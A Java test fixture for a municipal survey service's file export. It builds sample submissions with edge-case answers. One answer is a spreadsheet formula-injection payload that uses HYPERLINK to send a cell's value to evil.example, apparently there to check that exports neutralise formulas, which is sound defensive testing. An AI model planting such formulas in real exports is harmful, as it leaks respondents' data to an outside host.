package org.cabildo.backend.export.file;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.UUID;
import java.util.zip.ZipInputStream;
import org.cabildo.backend.export.file.Handed.Received;
import org.cabildo.surveys.definition.Definition;
import org.cabildo.surveys.reading.Definitions;
import org.jspecify.annotations.Nullable;

/** Two submissions to the municipality, with all that its questionnaire has. */
final class Exported {

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1)";
    static final String LINES = "Dos líneas,\ny \"comillas\" – 🏘";
    static final UUID FIRST = new UUID(1, 1);

    private static final Definition MUNICIPAL = Definitions.bundled("municipal-services");

    private Exported() {}

    static Given given(String question, List<Integer> path, String value) {
        UUID id = UUID.nameUUIDFromBytes((question + path + value).getBytes(StandardCharsets.UTF_8));
        return new Given(id, question, path, value, "es", "publish", 2, List.of("women"));
    }

    static List<Handed> submissions() {
        String file = "0".repeat(64) + "-1234-farola rota.jpg";
        return List.of(
                new Handed(
                        FIRST,
                        Instant.parse("2026-11-22T10:00:00.123Z"),
                        MUNICIPAL.version(),
                        "es",
                        "refugee_led",
                        "PE",
                        null,
                        null,
                        List.of(
                                given("district", List.of(), "harbour"),
                                given("adults", List.of(), "2"),
                                given("water_dear", List.of(), FORMULA),
                                given("used", List.of(), "water transport"),
                                given("why", List.of(), LINES),
                                given("priorities", List.of(), "health water waste transport"),
                                given("fault_place", List.of(), "-12.05 -77.04 150 5"),
                                given("fault_photo", List.of(), file),
                                given("phone", List.of(), "+51 1 234"),
                                given("visit_day", List.of(1), "2026-10-01"),
                                given("step_what", List.of(1, 1), "Ventanilla"),
                                given("step_what", List.of(1, 2), "Caja"),
                                given("visit_day", List.of(2), "2026-10-02"))),
                new Handed(
                        new UUID(2, 2),
                        Instant.parse("2026-11-22T11:00:00Z"),
                        MUNICIPAL.version(),
                        "pt",
                        "local_authority",
                        "EC",
                        "Municipio",
                        new Received("paper", LocalDate.parse("2026-11-20"), "Carta"),
                        List.of(given("water_bill", List.of(), "-3.5"), given("step_what", List.of(1, 1), "Fila"))));
    }

    static Contents contents(Shape shape, @Nullable String language) {
        return contents(shape, language, submissions());
    }

    static Contents contents(Shape shape, @Nullable String language, List<Handed> submissions) {
        return new Contents(
                shape,
                new Questionnaire(List.of(MUNICIPAL), Set.of("email")),
                new Wording(language == null ? null : Locale.forLanguageTag(language), Locale.forLanguageTag("es")),
                true,
                true,
                id -> "https://example.org/" + id,
                taker -> {
                    for (Handed one : Staging.unpack(Staging.pack(submissions))) {
                        taker.take(one);
                    }
                },
                List.of());
    }

    static byte[] file(Format format, Contents contents) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Written.to(format, contents, out);
        return out.toByteArray();
    }

    static String entry(Map<String, String> files, String name) {
        return Objects.requireNonNull(files.get(name), name);
    }

    /** What is in it, by name. */
    static Map<String, String> unzipped(byte[] file) throws IOException {
        Map<String, String> entries = new HashMap<>();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(file), StandardCharsets.UTF_8)) {
            for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                entries.put(entry.getName(), new String(zip.readAllBytes(), StandardCharsets.UTF_8));
            }
        }
        return entries;
    }
}
